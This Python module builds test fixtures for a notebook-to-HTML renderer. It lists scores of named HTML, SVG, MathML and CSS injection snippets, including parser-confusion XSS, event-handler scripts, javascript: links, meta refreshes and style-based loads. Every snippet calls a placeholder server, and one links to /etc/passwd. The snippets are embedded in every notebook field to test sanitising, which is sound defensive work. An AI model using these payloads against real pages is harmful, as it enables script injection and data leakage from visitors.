"""Markup that would run, load, send or lead elsewhere, each kind by name; SITE stands for a server's address."""

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from studies.pages.render import render_notebook

SITE = "http://site.invalid"

ASKING = {
    # Comments that end elsewhere than html.parser says, and CDATA, which is none outside of svg and math.
    "comment-empty": '<!--><meta http-equiv=refresh content="0;url=SITE/NAME">-->',
    "comment-dash": '<!---><meta http-equiv=refresh content="0;url=SITE/NAME">-->',
    "comment-bang": "<!-- --!><img src='SITE/NAME'>-->",
    "comment-bogus": "<!x ><img src='SITE/NAME'>",
    "comment-question": "<?x ><img src='SITE/NAME'>?>",
    "comment-end-tag": "</ ><img src='SITE/NAME'>",
    "cdata-html": "<![CDATA[><img src='SITE/NAME'>]]>",
    "cdata-svg": "<svg><![CDATA[<p>]]><image href='SITE/NAME'/></svg>",
    # Elements whose content is text in one place and markup in another.
    "svg-style": "<svg><style><img src='SITE/NAME'></style></svg>",
    "svg-style-title": "<svg><style><a title='</style><img src=SITE/NAME>'></style></svg>",
    "svg-title": "<svg><title><img src='SITE/NAME'></title></svg>",
    "svg-desc": "<svg><desc><style><!--</style><img src='SITE/NAME'>--></style></desc></svg>",
    "svg-foreign": "<svg width=9 height=9><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='SITE/NAME'>",
    "svg-image": "<svg width=9 height=9><image href='SITE/NAME' width=9 height=9></image></svg>",
    "svg-xlink": "<svg width=9 height=9><image xlink:href='SITE/NAME' width=9 height=9></image></svg>",
    "svg-feimage": "<svg width=9 height=9><filter id=f><feImage href='SITE/NAME'/></filter>"
    "<rect width=9 height=9 filter='url(#f)'/></svg>",
    "svg-set": "<svg width=9 height=9><image width=9 height=9><set attributeName=href to='SITE/NAME'/></image></svg>",
    "svg-animate": "<svg width=9 height=9><image width=9 height=9>"
    "<animate attributeName=href values='SITE/NAME' dur=9s /></image></svg>",
    "svg-onload": "<svg onload=\"new Image().src='SITE/NAME'\">",
    "svg-script": "<svg><script>new Image().src='SITE/NAME'</script></svg>",
    "svg-script-href": "<svg><script href='SITE/NAME'></script></svg>",
    "math-annotation": "<math><annotation-xml encoding='text/html'><img src='SITE/NAME'></annotation-xml></math>",
    "math-mtext": "<math><mtext><img src='SITE/NAME'></mtext></math>",
    "math-mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1&gt;'"
    " src='SITE/NAME'>",
    "table-foster": "<table><style><!--</style><img src='SITE/NAME'>--></table>",
    "noscript": "<noscript><p title='</noscript><img src=SITE/NAME>'></noscript>",
    "noscript-img": "<noscript></noscript><img src='SITE/NAME'>",
    "template": "<template></template><img src='SITE/NAME'>",
    "template-shadow": "<div><template shadowrootmode=open><img src='SITE/NAME'></template></div>",
    "textarea": "<textarea><p title='</textarea><img src=SITE/NAME>'></textarea>",
    "title": "<title><p title='</title><img src=SITE/NAME>'></title>",
    "xmp": "<xmp><p title='</xmp><img src=SITE/NAME>'></xmp>",
    "noembed": "<noembed><p title='</noembed><img src=SITE/NAME>'></noembed>",
    "noframes": "<noframes><p title='</noframes><img src=SITE/NAME>'></noframes>",
    "select": "<select><option></select><img src='SITE/NAME'>",
    "attribute-quote": "<p title='\"><b>'><img alt='\">' src='SITE/NAME'>",
    "slash": "<img/src='SITE/NAME'/alt=x>",
    "unclosed": "<img src='SITE/NAME' alt='>'><b",
    "nul-in-tag": "<p\0><img\0><img src='SITE/NAME'>",
    "tabs-in-address": "<img src=' ht\ttp://SITE_HOST/NA\nME'>",
    "backslashes": "<base href='http:\\\\SITE_HOST'><img src='\\NAME'>",
    # Elements that load.
    "meta-refresh": "<meta http-equiv=refresh content='0; url=SITE/NAME'>",
    "meta-refresh-case": "<META HTTP-EQUIV=ReFresh CONTENT=\"0;uRl='SITE/NAME'\">",
    "base": "<base href='SITE/'><img src='NAME'>",
    "link-style": "<link rel=stylesheet href='SITE/NAME'>",
    "link-icon-import": "<link rel=preload as=image href='SITE/NAME'>",
    "link-prefetch": "<link rel=prefetch href='SITE/NAME'>",
    "link-modulepreload": "<link rel=modulepreload href='SITE/NAME'>",
    "object": "<object data='SITE/NAME'></object>",
    "embed": "<embed src='SITE/NAME'>",
    "iframe": "<iframe src='SITE/NAME'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='SITE/NAME'>\"></iframe>",
    "iframe-data": "<iframe src=\"data:text/html,<img src='SITE/NAME'>\"></iframe>",
    "frameset": "<iframe src='about:blank'></iframe><img lowsrc=x src='SITE/NAME'>",
    "img": "<img src='SITE/NAME'>",
    "image": "<image src='SITE/NAME'>",
    "img-no-scheme": "<img src='//SITE_HOST/NAME'><base href='http://SITE_HOST'><img src='/NAME'>",
    "srcset": "<img srcset='SITE/NAME 1x'>",
    "picture": "<picture><source srcset='SITE/NAME'><img></picture>",
    "video": "<video src='SITE/NAME' preload=auto></video>",
    "poster": "<video poster='SITE/NAME'></video>",
    "audio": "<audio src='SITE/NAME' preload=auto></audio>",
    "track": "<video src='SITE/NAME' preload=auto><track default src='SITE/NAME'></video>",
    "input-image": "<input type=image src='SITE/NAME'>",
    "body-background": "<table background='SITE/NAME'><tr><td>x</table>",
    "script": "<script src='SITE/NAME'></script>",
    "script-module": "<script type=module>import 'SITE/NAME'</script>",
    "onerror": "<img src=x onerror=\"new Image().src='SITE/NAME'\">",
    "ontoggle": "<details open ontoggle=\"new Image().src='SITE/NAME'\">x</details>",
    "autofocus": "<p tabindex=0 autofocus onfocus=\"new Image().src='SITE/NAME'\">x</p>",
    "animation": "<style>@keyframes k{from{color:red}}</style>"
    "<p style='animation:k 1s' onanimationstart=\"new Image().src='SITE/NAME'\">x</p>",
    # Styles.
    "css-import": "<style>@import 'SITE/NAME';</style>",
    "css-import-url": "<style>@import url(SITE/NAME);</style>",
    "css-url": "<p style='background:url(SITE/NAME)'>x</p>",
    "css-url-escaped": "<p style='background:\\75 rl(SITE/NAME)'>x</p>",
    "css-url-string": '<style>p{background-image:url("SITE/NAME")}</style><p>x</p>',
    "css-image-set": "<style>p{background:image-set('SITE/NAME' 1x)}</style><p>x</p>",
    "css-variable": "<style>p{--a:url(SITE/NAME);background:var(--a)}</style><p>x</p>",
    "css-content": "<style>p::before{content:url(SITE/NAME)}</style><p>x</p>",
    "css-font": "<style>@font-face{font-family:f;src:url(SITE/NAME)}p{font-family:f}</style><p>x</p>",
    "css-cursor": "<style>p{list-style:url(SITE/NAME)}p{display:list-item}</style><p>x</p>",
    "css-nested": "<style>@media all{@supports(color:red){p{background:url(SITE/NAME)}}}</style><p>x</p>",
    "css-end": "<style>p{color:red}/*</style><img src='SITE/NAME'>*/</style>",
    "css-escaped-end": "<style>p{color:\\3c /style\\3e <img src='SITE/NAME'>}</style><img src='SITE/NAME'>",
}
"""Each asks the server when a page has it as it is."""

WAITING = {
    "ping": "<a href='#x' ping='SITE/NAME'>x</a>",
    "form": "<form action='SITE/NAME'><input name=a><button formaction='SITE/NAME'>x</button></form>",
    "javascript": "<a href='javascript:fetch(`SITE/NAME`)'>x</a>",
    "javascript-tab": "<a href='&#1; java&Tab;script&colon;fetch(`SITE/NAME`)'>x</a>",
    "vbscript": "<a href='vbscript:x'>x</a>",
    "data-html": "<a href='data:text/html,<script>location=`SITE/NAME`</script>'>x</a>",
    "blob": "<a href='blob:SITE/NAME'>x</a><a href='file:///etc/passwd'>x</a>",
    "svg-a": "<svg><a xlink:href='javascript:fetch(`SITE/NAME`)'><text y=9>x</text></a></svg>",
    "svg-use": "<svg><use href='SITE/NAME#a'/></svg>",
    "math-href": "<math href='javascript:fetch(`SITE/NAME`)'><mi>x</mi></math>",
    "math-action": "<math><maction actiontype='statusline#SITE/NAME' xlink:href='javascript:x'>x</maction></math>",
    "dns-prefetch": "<link rel=dns-prefetch href='SITE/NAME'><link rel=preconnect href='SITE/NAME'>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["SITE/NAME"]}]}</script>',
    "target": "<a href='https://example.org' target=_blank rel=opener download>x</a>",
    "clobbering": "<form name=querySelectorAll></form><img name=body id=body><a name=createElement>x</a>",
    "policy": "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "closing": "</p></div></div></div></main></body></html><p>after</p>",
    "math-form": "<form><math><mtext></form><form><mglyph><style></math><img src='SITE/NAME'>",
    "plaintext": "<plaintext>",
    "open-comment": "<!-- ",
    "open-script": "<script>",
    "open-style": "<style>",
    "open-textarea": "<textarea>",
    "open-title": "<svg><title>",
    "deep": "<div>" * 600 + "<math><mtext>" * 30 + "<img src='SITE/NAME'>",
}
"""Each waits for a click, for a change to the page around it, or for being read and written again."""


def armed(site=SITE):
    """Every snippet by name, with a server's address; each asks it for ``/<name>``."""
    host = site.partition("//")[2]
    return {
        name: text.replace("SITE_HOST", host)
        .replace("SITE", site)
        .replace("NA\nME", "\n".join((name[:2], name[2:])))
        .replace("NAME", name)
        for name, text in (ASKING | WAITING).items()
    }


def notebook(text):
    """A notebook that says a text wherever one can be said: cells, outputs of every kind, metadata, its title."""
    data = [{"text/html": text}, {"text/markdown": text}, {"image/svg+xml": f"<svg>{text}</svg>"}]
    data += [{"image/png": f'">{text}'}, {"text/latex": f"${text}$"}, {"text/plain": text}]
    data += [{"application/javascript": text}, {"application/vnd.jupyter.widget-view+json": {"model_id": text}}]
    about = {"image/png": {"alt": text, "width": text}, "text/html": {"isolated": text}}
    outputs = [new_output("display_data", one, metadata=about) for one in data]
    outputs += [new_output("stream", name=name, text=text) for name in ("stdout", "stderr")]
    outputs += [new_output("error", ename=text, evalue=text, traceback=[text])]
    cells = [new_markdown_cell(f"# {text}"), new_markdown_cell(text), new_markdown_cell(f"| a |\n|---|\n| {text} |")]
    cells += [new_markdown_cell(f"[x]({text}) ![{text}](x.png '{text}') `{text}` ${text}$")]
    cells += [
        new_code_cell(text, outputs=outputs, metadata={"tags": [text.replace(",", ";")], "alt": text}),
        new_raw_cell(text),
    ]
    cells += [new_markdown_cell('<p id="end">the end</p>')]
    metadata = {"papermill": {"parameters": {"study": text}}, "title": text, "language_info": {"name": text}}
    metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"a": text}}}
    return new_notebook(cells=cells, metadata=metadata)


def page(text, folder):
    """The rendered page of `notebook`, whose links and file name say the text, too: its path."""
    folder.mkdir(parents=True)
    nbformat.write(notebook(text), folder / "a.ipynb")
    render_notebook(folder / "a.ipynb", folder / "a.html", links=[(text, text)], places={"a": text})
    return folder / "a.html"


HOSTILE = """<p id="here">kept</p>
<script>ran('script')</script>
<img src="x" onerror="ran('onerror')"><svg onload="ran('svg')"><script>ran('in svg')</script></svg>
<details open ontoggle="ran('toggle')"></details>
<a id="link" href="JaVa\tScript:ran('link')">a link</a>
<form action="https://example.org/" id="form"><input name="a"></form>
<img src="https://example.org/a.png"><style>@import url("https://example.org/a.css");
body { background: url("https://example.org/b.png") }</style>
<iframe srcdoc="<script>parent.ran('frame')</script>"></iframe>
<noscript><p title="</noscript><img src=x onerror=ran('noscript')>"></noscript>
</div></main></body>
<meta http-equiv="refresh" content="0;url=https://example.org/"><base href="https://example.org/">
<script>ran('after the end')</script><img src="x" onerror="ran('after')">"""


def page_of_all_outputs(folder):
    """The page of a notebook of which every output, and a text, does what it can."""
    markdown = HOSTILE + "\n\n[a](javascript:ran('markdown')) ![](https://example.org/c.png) ![](.)\n"
    data = [{"text/html": HOSTILE}, {"text/markdown": markdown}, {"image/svg+xml": f"<svg>{HOSTILE}</svg>"}]
    data += [{"image/png": "\"><script>ran('png')</script>"}, {"text/latex": f"${HOSTILE}$"}, {"text/plain": HOSTILE}]
    data += [{"application/javascript": "ran('javascript')"}]
    outputs = [new_output("display_data", one) for one in data]
    outputs += [new_output("stream", name="stderr", text=HOSTILE), new_output("error", ename=HOSTILE, evalue=HOSTILE)]
    cells = [new_markdown_cell(f"# {HOSTILE}"), new_markdown_cell(markdown), new_code_cell(HOSTILE, outputs=outputs)]
    study = {"papermill": {"parameters": {"study": HOSTILE}}}
    nbformat.write(new_notebook(cells=cells, metadata=study), folder / "a.ipynb")
    render_notebook(folder / "a.ipynb", folder / "a.html", links=[("</nav><script>ran(1)</script>", "x.html")])
    return folder / "a.html"
